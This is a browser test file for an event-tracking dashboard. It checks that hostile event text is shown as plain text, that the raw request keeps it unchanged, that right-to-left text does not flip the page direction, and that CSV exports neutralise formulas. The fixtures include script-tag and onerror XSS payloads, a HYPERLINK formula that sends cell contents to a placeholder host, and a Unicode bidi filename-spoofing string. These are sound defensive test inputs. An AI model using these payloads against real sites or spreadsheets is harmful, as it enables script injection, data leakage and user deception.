// Text from outside stays text, wherever it is shown and wherever it goes.
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import test from 'node:test';

import { DETAIL, VIEWS, go, open, rows } from './support/page.mjs';
import { Server } from './support/server.mjs';

const SCRIPT = '<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">';
const FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"look")';
const BACKWARDS = '\u202Eexe.\u2066gpj\u2069\u202C \u05E9\u05DC\u05D5\u05DD';

const HOSTILE = [SCRIPT, FORMULA, BACKWARDS];

/** Each text in every place that takes one. */
const events = HOSTILE.map((text, index) => ({
  event_type: text,
  event_name: text,
  session_id: `${text} ${index}`,
  user_id: text,
  agent_id: text,
  page_url: `http://127.0.0.1/${text}`,
  properties: { [text]: text, run: text, number: index, tool: text, tool_name: text },
}));

async function opened(t, at) {
  const server = await Server.empty(t);
  for (const event of events) await server.track(event);
  assert.equal((await server.control('GET', '/audit')).stored, HOSTILE.length);
  return { server, page: await open(t, server, { at }) };
}

/** Nothing ran, and nothing that would run is there. */
async function isHarmless(page, where) {
  const found = await page.evaluate(() => [window.hacked, document.querySelectorAll('#app :is(script, img, iframe, object, embed, base, form[action], [onerror])').length]);
  assert.deepEqual(found, [undefined, 0], where);
}

test('views and their details show it as text', async (t) => {
  const { page } = await opened(t);
  for (const view of VIEWS) {
    await go(page, `#/${view}`);
    await page.waitForFunction(() => document.querySelector('main').textContent.length > 0 && !document.querySelector('[aria-busy=true]'));
    await isHarmless(page, view);
  }
  for (const view of ['live', 'sessions', 'delivery']) {
    await go(page, `#/${view}`);
    const options = rows(page);
    await options.nth(HOSTILE.length - 1).waitFor();
    for (const [index, text] of HOSTILE.entries()) {
      await go(page, `#/${view}`);
      await options.nth(index).click();
      const detail = page.locator(DETAIL).first();
      await detail.waitFor();
      await isHarmless(page, `${view} ${index}`);
      if (view === 'live') assert.ok((await page.getByRole('main').textContent()).includes(text), `${view} shows ${text}`);
    }
  }
});

test('the raw request has it as it came', async (t) => {
  const { page } = await opened(t, '#/delivery');
  for (const [index, text] of HOSTILE.entries()) {
    await rows(page).nth(index).click();
    const body = page.getByLabel('Body of the request');
    await page.waitForFunction((text) => document.querySelector('[aria-label="Body of the request"]')?.textContent.includes(text), JSON.stringify(text));
    assert.deepEqual(JSON.parse(await body.textContent())[0].properties[text], text);
  }
});

test('text that changes its direction does not change that of others', async (t) => {
  const { page } = await opened(t, '#/live');
  const row = rows(page).nth(HOSTILE.indexOf(BACKWARDS));
  await row.waitFor();
  const directions = await row.evaluate((row) => [getComputedStyle(row).direction, getComputedStyle(document.querySelector('main')).direction]);
  assert.deepEqual(directions, ['ltr', 'ltr']);
});

test('no export holds a formula', async (t) => {
  const { page } = await opened(t, '#/live');
  await rows(page).nth(HOSTILE.length - 1).waitFor();
  const saved = async (name) => {
    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name }).click();
    return readFile(await (await downloading).path(), 'utf8');
  };
  const csv = await saved(/CSV/);
  assert.ok(csv.includes(`"'${FORMULA.replaceAll('"', '""')}"`), csv);
  assert.doesNotMatch(csv, /(?:^|,|\n)"?[=+@-]/, 'no cell begins as a formula does');
  const lines = (await saved(/NDJSON/)).trim().split('\n').map((line) => JSON.parse(line));
  assert.deepEqual(lines.map(({ event_type }) => event_type).sort(), [...HOSTILE].sort());
});
